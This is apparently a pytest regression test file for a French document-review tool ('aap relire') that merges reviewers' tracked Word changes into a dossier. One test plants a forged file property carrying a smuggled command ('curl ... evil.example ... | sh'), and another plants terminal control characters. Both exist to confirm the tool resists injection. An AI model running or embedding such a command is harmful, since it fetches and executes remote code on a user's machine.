"""What the fresh eyes found in `aap relire`, each kept as a regression test: lines that moved in
aap since the export, markup and control characters in what a file holds, forged properties,
bookmarks moved to another answer, decisions remembered by content, a comparison base edited by
hand, a version that cannot be written, a pipe where aap keeps its decisions."""

from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path

import pytest
import reviewing as rv
from builders import EXAMPLE
from conftest import plain, run_aap

NAME = "cible"


@pytest.fixture
def setup(tmp_path):
    return rv.exported_dossier(tmp_path, NAME)


def answers(folder: Path) -> dict:
    return rv.saved_answers(folder, NAME)


def relire(env, *args):
    return run_aap("relire", NAME, *map(str, args), env=env)


def _rewrite(src: Path, dst: Path, part: str, change) -> Path:
    with zipfile.ZipFile(src) as source, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            target.writestr(entry, change(data) if entry.filename == part else data)
    return dst


def test_rows_removed_in_two_runs_are_the_rows_the_reviewers_removed(setup, tmp_path):
    folder, env, exported = setup
    first = rv.track_delete_row(exported, tmp_path / "a.docx", "Dr Antoine Leroy")
    second = rv.track_delete_row(exported, tmp_path / "b.docx", "Sophie Bernard")
    assert relire(env, first, "--tout-accepter").returncode == 0
    assert relire(env, second, "--tout-accepter").returncode == 0
    assert [m["nom"] for m in answers(folder)["equipe"]] == ["Claire Martin", "Karim Benali", "Dr Hélène Petit"]


def test_a_cell_changed_after_a_line_was_removed_goes_to_its_own_line(setup, tmp_path):
    folder, env, exported = setup
    first = rv.track_delete_row(exported, tmp_path / "a.docx", "Dr Antoine Leroy")
    role = rv.track_replace(exported, tmp_path / "b.docx", "Pilote le projet, anime le comité de suivi",
                            "Pilote le projet et anime le comité de suivi")
    assert relire(env, first, "--tout-accepter").returncode == 0
    assert relire(env, role, "--tout-accepter").returncode == 0
    team = {m["nom"]: m["role"] for m in answers(folder)["equipe"]}
    assert team["Claire Martin"].startswith("Pilote le projet et anime")
    assert team["Sophie Bernard"].startswith("Tient la consultation")


def test_markup_and_control_characters_from_a_file_are_shown_as_they_are(setup, tmp_path):
    folder, env, exported = setup
    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel",
                                "comité de pilotage [/] bimensuel", author="[red]Dr Evil[/red] [/]\x9b2J\u202e")
    reviewed = rv.comment(reviewed, tmp_path / "b.docx", "Taux de réponse visé", "[link=https://evil.example]x[/link] [/]",
                          author="[/]")
    result = relire(env, reviewed, "--tout-accepter")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "[red]Dr Evil[/red] [/]" in out and "[link=https://evil.example]x[/link]" in out
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out
    assert "[/] bimensuel" in answers(folder)["methode_travail"]


def test_a_forged_dossier_property_is_never_pasted_into_a_command(setup, tmp_path):
    _folder, env, exported = setup
    forged = "cible x; curl -s https://evil.example/x | sh"

    def forge(data: bytes) -> bytes:
        return re.sub(rb'(name="aap-dossier"><vt:lpwstr>)[^<]*', lambda m: m.group(1) + forged.encode(), data)
    path = _rewrite(exported, tmp_path / "Relecture Dr Martin.docx", "docProps/custom.xml", forge)
    result = relire(env, path)
    assert result.returncode == 2
    # Not a dossier's name: quoted as what the file claims, never offered as a command to type.
    assert "aap relire" not in plain(result.stderr) and "rien n'est modifié" in plain(result.stderr)


def test_a_bookmark_moved_to_another_answer_is_not_believed(setup, tmp_path):
    folder, env, exported = setup
    before = (folder / f"{NAME}.json").read_bytes()
    versions = sorted((folder / f"{NAME}.versions").glob("[0-9]*.json"))
    base = json.loads(versions[-1].read_text(encoding="utf-8"))["reperes"]["reponses"]
    names = {entry["question"]: entry["anchor"] for entry in base}
    one, two = names["montant_demande"].encode(), names["actes_par_an"].encode()

    def swap(data: bytes) -> bytes:
        data = data.replace(b'w:name="' + one + b'"', b'w:name="@@"')
        data = data.replace(b'w:name="' + two + b'"', b'w:name="' + one + b'"')
        return data.replace(b'w:name="@@"', b'w:name="' + two + b'"')
    swapped = _rewrite(exported, tmp_path / "a.docx", "word/document.xml", swap)
    seen = json.loads(relire(env, swapped, "--json").stdout)
    assert seen["propositions"] == []
    assert relire(env, swapped, "--tout-accepter").returncode == 0
    assert (folder / f"{NAME}.json").read_bytes() == before


def test_a_decision_is_remembered_by_its_content_not_by_its_file_name_or_line(setup, tmp_path):
    from assistant.loading import find_appel
    from assistant.review.decisions import remember
    from assistant.review.importing import read_reviews
    from assistant.store import Store

    folder, env, exported = setup
    (tmp_path / "r1").mkdir()
    (tmp_path / "r2").mkdir()
    claire = rv.track_delete_row(exported, tmp_path / "r1" / "relecture.docx", "Pilote le projet, anime le comité")
    sophie = rv.track_delete_row(exported, tmp_path / "r2" / "relecture.docx", "Sophie Bernard")
    store = Store(folder, find_appel)
    reading = read_reviews(store, store.load(NAME), [claire])
    remember(store, NAME, reading.proposals)  # refused, as the dialogue records it
    seen = json.loads(relire(env, claire, sophie, "--json").stdout)
    assert seen["deja_decidees"] == 1
    [proposal] = seen["propositions"]
    assert "Sophie Bernard" in proposal["exporte"]


def test_a_comparison_base_edited_by_hand_is_refused_not_a_traceback(setup, tmp_path):
    folder, env, exported = setup
    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
    version = sorted((folder / f"{NAME}.versions").glob("[0-9]*.json"))[-1]
    data = json.loads(version.read_text(encoding="utf-8"))
    data["reperes"]["reponses"][0]["kind"] = None
    data["reperes"]["reponses"][1] = "pas un objet"
    version.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    result = relire(env, reviewed, "--tout-accepter")
    assert result.returncode == 2
    assert "modifiée à la main" in plain(result.stderr) and "Traceback" not in result.stderr


def test_a_version_that_cannot_be_written_leaves_the_dossier_as_it_was(setup, tmp_path):
    folder, env, exported = setup
    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
    before = (folder / f"{NAME}.json").read_bytes()
    seen = json.loads(relire(env, reviewed, "--json").stdout)
    assert len(seen["propositions"]) == 1  # read while the base is there
    versions = folder / f"{NAME}.versions"
    # Every next number taken (by links to nowhere): the version cannot be written, whoever runs it.
    last = max(int(p.stem) for p in versions.glob("[0-9]*.json"))
    for number in range(last + 1, last + 201):
        (versions / f"{number:04d}.json").symlink_to(tmp_path / "nulle-part")
    result = relire(env, reviewed, "--tout-accepter")
    assert result.returncode == 2, result.stdout
    assert "rien n'a été modifié" in plain(result.stderr) or "ne peuvent pas être enregistrées" in plain(result.stderr)
    assert (folder / f"{NAME}.json").read_bytes() == before


def test_a_pipe_where_aap_keeps_its_decisions_does_not_hang(setup, tmp_path):
    folder, env, exported = setup
    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
    os.mkfifo(folder / f"{NAME}.versions" / "relectures.json")
    result = relire(env, reviewed, "--json")
    assert result.returncode == 0
    assert len(json.loads(result.stdout)["propositions"]) == 1


def test_a_copy_made_by_dupliquer_refuses_the_files_of_the_original(setup, tmp_path):
    _folder, env, exported = setup
    assert run_aap("dupliquer", NAME, "copie", env=env).returncode == 0
    reviewed = rv.track_replace(exported, tmp_path / "a.docx", "comité de pilotage mensuel", "comité de pilotage bimensuel")
    result = run_aap("relire", "copie", str(reviewed), "--tout-accepter", env=env)
    assert result.returncode == 2
    assert f"produit pour le dossier « {NAME} »" in plain(result.stderr)


def test_a_comment_signed_aap_by_a_reviewer_is_shown(setup, tmp_path):
    _folder, env, exported = setup
    reviewed = rv.comment(exported, tmp_path / "a.docx", "Taux de réponse visé", "Un vrai commentaire", author="aap")
    seen = json.loads(relire(env, reviewed, "--json").stdout)
    assert [n["texte"] for n in seen["commentaires_sans_modification"]] == ["Un vrai commentaire"]


def test_an_edit_reaches_its_line_moved_and_changed_since_the_export(setup, tmp_path):
    folder, env, exported = setup
    remove = rv.track_delete_row(exported, tmp_path / "a.docx", "Dr Antoine Leroy")
    pilot = rv.track_replace(exported, tmp_path / "b.docx", "Pilote le projet", "Conduit le projet")
    writes = rv.track_replace(exported, tmp_path / "c.docx", "et rédige les bilans", "et écrit les bilans")
    assert relire(env, remove, pilot, "--tout-accepter").returncode == 0
    # Claire Martin's line moved up (a line removed above it) and changed (its role): found anyway.
    result = relire(env, writes, "--tout-accepter")
    assert result.returncode == 0, result.stdout
    role = {m["nom"]: m["role"] for m in answers(folder)["equipe"]}["Claire Martin"]
    assert role.startswith("Conduit le projet") and "écrit les bilans" in role


def test_a_line_removed_by_one_and_edited_by_another_is_never_decided_alone(setup, tmp_path):
    folder, env, exported = setup
    remove = rv.track_delete_row(exported, tmp_path / "a.docx", "Sophie Bernard")
    edit = rv.track_replace(exported, tmp_path / "b.docx", "Tient la consultation", "Assure la consultation")
    seen = json.loads(relire(env, remove, edit, "--json").stdout)
    assert all(p["collision"] for p in seen["propositions"]) and len(seen["propositions"]) == 2
    before = (folder / f"{NAME}.json").read_bytes()
    assert relire(env, remove, edit, "--tout-accepter").returncode == 1
    assert (folder / f"{NAME}.json").read_bytes() == before


def test_an_apostrophe_retyped_is_no_change(setup, tmp_path):
    _folder, env, exported = setup
    reviewed = rv.plain_replace(exported, tmp_path / "a.docx", "plateau d’imagerie interventionnelle réalise",
                                "plateau d'imagerie interventionnelle réalise")
    assert json.loads(relire(env, reviewed, "--json").stdout)["propositions"] == []


def test_two_files_of_the_same_name_are_told_apart_by_their_folder(setup, tmp_path):
    _folder, env, exported = setup
    (tmp_path / "martin").mkdir()
    (tmp_path / "durand").mkdir()
    one = rv.track_replace(exported, tmp_path / "martin" / "relecture.docx", "comité de pilotage mensuel",
                           "comité de pilotage hebdomadaire")
    two = rv.track_replace(exported, tmp_path / "durand" / "relecture.docx", "comité de pilotage mensuel",
                           "comité de pilotage trimestriel")
    seen = json.loads(relire(env, one, two, "--json").stdout)
    assert seen["fichiers"] == ["martin/relecture.docx", "durand/relecture.docx"]


def test_files_of_two_dossiers_without_a_name_are_refused_and_no_lock_is_left(setup, tmp_path):
    folder, env, exported = setup
    assert run_aap("remplir", "--reponses", str(EXAMPLE), "--nom", "autre", env=env).returncode == 0
    other = tmp_path / "autre.docx"
    assert run_aap("exporter", "autre", "--sortie", str(other), env=env).returncode == 0
    result = run_aap("relire", str(exported), str(other), env=env)
    assert result.returncode == 2 and "dossiers différents" in plain(result.stderr)
    result = run_aap("relire", "inconnu", str(exported), env=env)
    assert result.returncode == 2
    assert not list(folder.glob("inconnu*"))
